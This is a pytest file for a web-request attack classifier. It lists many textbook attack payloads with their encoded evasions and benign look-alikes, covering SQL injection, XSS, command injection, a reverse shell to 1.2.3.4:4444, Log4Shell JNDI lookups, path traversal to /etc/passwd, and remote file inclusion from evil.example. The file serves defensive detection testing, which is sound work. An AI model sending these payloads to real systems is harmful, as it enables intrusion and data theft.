"""The request classifier, family by family: a plain payload, an evasion of it, and benign look-alikes.

Payload shapes are the public, textbook ones (OWASP testing guide, PayloadsAllTheThings-style
classics written out here by hand); none is taken from an evaluation corpus.
"""

import pytest

from ansible_collections.sitekeeper.website.plugins.module_utils.audit import detections as log_detections
from ansible_collections.sitekeeper.website.plugins.module_utils.audit.detections import (
    DETECTIONS,
    Classifier,
    inspect_request,
)


def ids_of(target, method="GET"):
    return inspect_request(method.encode(), target.encode("utf-8", "surrogateescape")).ids


FAMILIES = {
    "sqli": {
        "plain": ["/item?id=1' AND SLEEP(5)-- -", "/item?id=1;WAITFOR DELAY '0:0:5'--", "/item?id=1 AnD 1=1",
                  "/news/1' union select null,version()--", "/login?user=admin'--&pass=x",
                  "/item?id=1' and extractvalue(1,concat(0x7e,(select user())))--", "/item?id=1 or pg_sleep(5)--",
                  "/item?id=1' OR 'x'='x", "/item?id=1) or ('1'='1", "/item?id=1 order by 10--",
                  "/item?id=1; select * from users", "/foo?a=information_schema.tables", "/foo?a=,null,null",
                  "/item?id=1%27%20having%201=1--", "/item?id=x%27=0--+", "/item?id=1 and (select 1 from users)=1",
                  "/item?id=-1%20OR%202%2B576-576-1=0%2B0%2B0%2B1", "/item?id=1 rlike (select sleep(5))",
                  "/item?id=1 procedure analyse(extractvalue(1,1),1)"],
        "evasion": ["/item?id=-1%27/**/UnIoN/**/SeLeCt/**/1,2,3--", "/item?id=1/*!50000union*/+/*!50000select*/+1,2",
                    "/item?id=%2527%2520or%25201%253D1--", "/item?id=1%22%20or%20%22a%22=%22a",
                    "/item?id=1%EF%BC%87%20or%201=1--"],
        "benign": ["/search?q=select+a+lawyer+from+the+list", "/search?q=O%27Brien", "/search?q=rock+and+roll",
                   "/search?q=it%27s+fine+and+good", "/search?q=5+or+more", "/search?q=how+to+use+sleep()+in+python",
                   "/docs?q=union+select+tutorial", "/search?q=--help", "/informasi?kategori=order+by+date",
                   "/search?q=x+%3D+1+or+y+%3D+2", "/search?q=DROP+by+the+office", "/search?q=hello%3B+select+your+court",
                   "/search?q=%22Where+the+Crawdads+Sing%22", "/search?q=%27Order+of+the+Phoenix%27+book",
                   "/search?q=%22order+by+price%22+tips"],
    },
    "xss": {
        "plain": ["/s?q=<script>alert(1)</script>", "/s?q=\"><svg/onload=alert(1)>", "/s?q=javascript:alert(document.domain)",
                  "/s?q='-alert(1)-'", "/s?q=<details open ontoggle=prompt`1`>", "/s?q=\" autofocus onfocus=\"confirm(1)",
                  "/foo?a=<object", "/foo?a=<img src=x>", "/s?q=<marquee onstart=alert(1)>", "/s?q=<x onfoo=bar>"],
        "evasion": ["/s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)%EF%BC%9C/script%EF%BC%9E",
                    "/s?q=%26lt;script%26gt;alert(1)%26lt;/script%26gt;",
                    "/s?q=%3Cimg%20src%3Dx%20onerror%3D%26%23x61%3B%26%23x6c%3Blert(1)%3E",
                    "/s?q=%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3Ex%3C/a%3E",
                    "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E", "/s?q=%3Cscr%00ipt%3Ealert(1)%3C/script%3E",
                    "/s?cb=%5Cx3cscript%5Cx3ealert(1)%5Cx3c/script%5Cx3e",
                    "/s?q=%5Cu003cimg%20src=x%20onerror=alert(1)%5Cu003e", "/s?q=java%09script:alert(1)"],
        "benign": ["/search?q=a%3Cb+and+c%3Ed", "/search?q=%3C3+kamu", "/search?q=alert+system+prompt",
                   "/articles/2024/05/why-eval-is-evil", "/search?q=online+shop", "/search?q=lemon%3Dyellow",
                   "/search?q=onion%3Dtasty"],
    },
    "nodejs_injection": {
        "plain": ["/api?x=require('child_process').exec('id')", "/api?x=this.constructor.constructor('return process')()",
                  "/api?__proto__[admin]=1", "/api?constructor[prototype][admin]=1"],
        "evasion": ["/api?x=%5Cx72equire(%5Cu0027child_process%5Cu0027)"],
        "benign": ["/docs/nodejs/require-and-import", "/search?q=process+improvement"],
    },
    "command_injection": {
        "plain": ["/ping?ip=127.0.0.1|id", "/ping?ip=$(whoami)", "/ping?ip=`uname -a`",
                  "/ping?ip=127.0.0.1%26%26wget%20http://1.2.3.4/x.sh", "/x?a=;bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
                  "/x?a=|cmd.exe /c dir", "/ping?host=127.0.0.1;cat%20/etc/passwd"],
        "evasion": ["/ping?ip=127.0.0.1%0aid", "/ping?ip=;c%27a%27t%20/etc/passwd", "/ping?ip=;cat${IFS}/etc/passwd",
                    "/x?a={cat,/etc/passwd}", "/ping?ip=;/b%27%27in/i%5Cd"],
        "benign": ["/search?q=tom+%26+jerry", "/search?q=cat+%7C+grep", "/search?q=echo+park", "/search?q=ping+google.com",
                   "/jadwal?tgl=2026-11-27&ruang=1;2", "/search?q=salt%3B+pepper"],
    },
    "php_injection": {
        "plain": ["/index.php?page=php://input", "/index.php?c=system('id')", "/index.php?c=<?php phpinfo();?>",
                  "/index.php?c=eval(base64_decode('cGhwaW5mbygpOw=='))",
                  "/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg=="],
        "evasion": ["/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
                    "/x.php?x=O:8:%22stdClass%22:1:{s:1:%22a%22;i:1;}", "/index.php?c=%73ystem(%22id%22)"],
        "benign": ["/search?q=operating+system+(os)", "/search?q=php+tutorial", "/search?q=exec+summary"],
    },
    "java_injection": {
        "plain": ["/?x=${jndi:ldap://a.b/c}", "/?x=T(java.lang.Runtime).getRuntime().exec('id')",
                  "/?x=%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
                  "/index.action?redirect:${#a=new java.lang.ProcessBuilder('id')}",
                  "/path/foo/?class.module.classLoader.DefaultAssertionStatus=nosense"],
        "evasion": ["/?x=${${lower:j}${lower:n}di:ldap://a.b/c}", "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://a.b/c}",
                    "/?x=${${env:NaN:-j}ndi${env:NaN:-:}ldap://a/b}", "/?x=%2524%257Bjndi:ldap://a/b%257D"],
        "benign": ["/search?q=java+runtime+environment", "/search?q=class+loader+tutorial", "/docs?page=%24%7Bhome%7D"],
    },
    "template_injection": {
        "plain": ["/?name={{7*7}}", "/?name=${7*7}", "/?name={{config.__class__.__init__.__globals__}}",
                  "/?name=<%= 7*7 %>", "/?name=#{7*7}", "/?name={{''.__class__.__mro__[1].__subclasses__()}}"],
        "evasion": ["/?name=%7B%7B7%2A7%7D%7D", "/?name=%EF%BD%9B%EF%BD%9B7*7%EF%BD%9D%EF%BD%9D",
                    "/?name=<#assign ex=\"freemarker.template.utility.Execute\"?new()>"],
        "benign": ["/search?q=%7B%7Bmustache%7D%7D+templates", "/math?expr=7*7", "/calc?e=(1%2B2)*3",
                   "/search?q=what+is+%24%7Bvariable%7D+in+bash"],
    },
    "path_traversal": {
        "plain": ["/unduh?file=../../../../etc/passwd", "/download?file=/proc/self/environ",
                  "/download?file=C:%5Cboot.ini", "/x?u=file:///etc/shadow", "/app/..;/..;/WEB-INF/web.xml",
                  "/index.php?page=php://filter/convert.base64-encode/resource=index",
                  "/x?file=/etc/apache2/apache2.conf"],
        "evasion": ["/static/..%2f..%2f..%2fetc%2fpasswd", "/download?file=....//....//....//etc/passwd",
                    "/download?file=..%5c..%5c..%5cwindows%5cwin.ini", "/download?file=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
                    "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "/download?file=.../.../.../etc/passwd",
                    "/download?file=..%u2216..%u2216etc/passwd", "/download?file=../../../../etc/passwd%00.jpg",
                    "/x?f=..%f0%80%80%af..%f0%80%80%afetc/passwd"],
        "benign": ["/search?q=path%2Fto%2Ffile", "/search?q=windows+system32+folder", "/files/report..pdf",
                   "/putusan?nomor=12/Pdt.G/2026/PN+Ctn", "/login?next=%2Fadmin%2Fdashboard", "/login?next=/home",
                   "/search?q=2024-11-27", "/search?q=10+in+stock"],
    },
    "rfi": {
        "plain": ["/index.php?page=http://evil.example/shell.txt?", "/index.php?inc=http://198.51.100.7/x.php"],
        "evasion": ["/index.php?file=ftp://198.51.100.7/x.txt%00", "/index.php?page=http%3A%2F%2F203.0.113.9%2Fshell.txt%3F"],
        "benign": ["/redirect?url=https%3A%2F%2Fwww.google.com%2F", "/share?u=https://example.org/page?x=1",
                   "/acl_users/credentials_cookie_auth/require_login?came_from=http%3A//howto.basjes.nl/join_form"],
    },
    "protocol_abuse": {
        "plain": ["CONNECT example.com:443", "GET http://198.51.100.1:8080/", "FOO /", "GET /etc/passwd%3f"],
        "evasion": ["/x?a=foo%0d%0aSet-Cookie:%20a=b", "/redirect?u=%250d%250aLocation:%20http://evil"],
        "benign": ["GET http://www.example.org/index.html", "OPTIONS *", "/form?text=line+one%0D%0Aline+two"],
    },
    "sensitive_file": {
        "plain": ["/.env", "/.git/config", "/wp-config.php", "/backup.sql", "/.DS_Store", "/www.tar.gz"],
        "evasion": ["/wp-config.php~", "/.env.bak", "/config.php.swp", "/.wp-config.php.swp", "/static/..%2f.git/config",
                    "//.git//config", "/app/%2e%65nv", "/settings.py.bak", "/web.config.old", "/WP-CONFIG.PHP.bak",
                    "/Dockerfile", "/ssl/server.key", "/.svn/entries"],
        "benign": ["/unduh/formulir-gugatan.pdf", "/.well-known/security.txt", "/assets/css/main.css?v=3",
                   "/data/migrations/1548957970627_remove-db-version.sql", "/keys.html", "/docs/key-dates.pdf"],
    },
    "exploit_probe": {
        "plain": ["/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/owa/auth/x.js", "/mgmt/tm/util/bash",
                  "/_ignition/execute-solution", "/pages/createpage-entervariables.action?SpaceKey=x", "/HNAP1/",
                  "/vpns/cfg/smb.conf", "/api/v2/cmdb/system/admin/admin", "/sap/bc/gui/sap/its/webgui/foobar"],
        "evasion": ["/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
                    "/unauth/%252e%252e/php/ztp_gate.php/PAN_help/x.css", "/VENDOR/PHPUNIT/phpunit/src/Util/PHP/eval-stdin.php",
                    "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
                    "/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23markup%5D=id",
                    "/index.action?x=%25%7B(%23_memberAccess)%7D"],
        "benign": ["/nwa-news/2024", "/my-actuator/envelope", "/hnap10", "/goformulir/2024",
                   "/search?q=%23hashtag+%5Bnews%5D"],
    },
}
CASES = [(fam, kind, t) for fam, kinds in FAMILIES.items() for kind in ("plain", "evasion") for t in kinds[kind]]
BENIGN = [(fam, t) for fam, kinds in FAMILIES.items() for t in kinds["benign"]]


def _split(target):
    """("CONNECT", "example.com:443") for a target written with its method, else ("GET", target)."""
    first, _, rest = target.partition(" ")
    if rest and first.isalpha() and first.isupper():
        return first, rest
    return "GET", target


@pytest.mark.parametrize("family,kind,target", CASES)
def test_each_family_detects_plain_and_evasive_payloads(family, kind, target):
    method, rest = _split(target)
    assert family in ids_of(rest, method)


@pytest.mark.parametrize("family,target", BENIGN)
def test_benign_look_alikes_raise_nothing(family, target):
    method, rest = _split(target)
    found = [i for i in ids_of(rest, method) if not i.endswith("_weak")]
    assert found == [], (family, target)


def test_every_family_is_a_known_detection_with_names():
    for family in FAMILIES:
        severity, english, indonesian = DETECTIONS[family]
        assert severity in log_detections.SEVERITIES and english and indonesian
    assert len(CASES) > 120 and len(BENIGN) > 45


def test_matches_name_the_part_and_show_raw_and_decoded():
    verdict = inspect_request(b"GET", b"/cari?page=2&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E")
    assert verdict.ids == ("xss",) and verdict.score >= 5
    rule, detection, part, raw, decoded = next(m for m in verdict.matches if m[0] == "xss_active_tag")
    assert (detection, part) == ("xss", "arg:q")
    assert raw.startswith("%3Cscript") and decoded.startswith("<script>alert(1)")


def test_one_weak_hint_never_alarms_but_evidence_adds_up():
    weak = inspect_request(b"GET", b"/s?q=%3Cb%3Ehello")  # a formatting tag alone: a warning
    assert weak.ids == () and 0 < weak.score < 5
    sink = inspect_request(b"GET", b"/s?x=prompt(")  # a dialog function named alone: a warning
    assert sink.ids == () and 0 < sink.score < 5
    both = inspect_request(b"GET", b"/s?q=%3Cb%3Ehello&x=prompt(")
    assert both.ids == ("xss",) and both.score == weak.score + sink.score


def test_agent_and_referer_are_parts_too():
    c = Classifier()
    assert "java_injection" in c.agent_verdict(b"${jndi:ldap://198.51.100.7/a}").ids
    assert "command_injection" in c.agent_verdict(b"() { :; }; /bin/bash -c 'id'").ids
    assert c.agent_verdict(b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)").ids == ()
    verdict = inspect_request(b"GET", b"/", referer=b"https://x.example/?q=1' union select 1,2--")
    assert "sqli" in verdict.ids and verdict.matches[0][2] == "referer"


def test_allow_params_skip_markup_and_sql_only():
    rich = Classifier(allow_params=["body"])
    assert rich.classify(b"GET /post?body=%3Cscript%3Ex%3C/script%3E HTTP/1.1")[0] == ()
    assert rich.classify(b"GET /post?body=1%27%20union%20select%201,2-- HTTP/1.1")[0] == ()
    assert "xss" in rich.classify(b"GET /post?title=%3Cscript%3Ex%3C/script%3E HTTP/1.1")[0]
    # shell and file inclusion are never allowed
    assert "command_injection" in rich.classify(b"GET /post?body=;cat%20/etc/passwd HTTP/1.1")[0]


def test_enabled_detections_limit_what_is_reported():
    only = Classifier(enabled=["xss"])
    assert only.classify(b"GET /?id=1%27%20union%20select%201,2-- HTTP/1.1")[0] == ()
    assert only.classify(b"GET /?q=%3Cscript%3E HTTP/1.1")[0] == ("xss",)
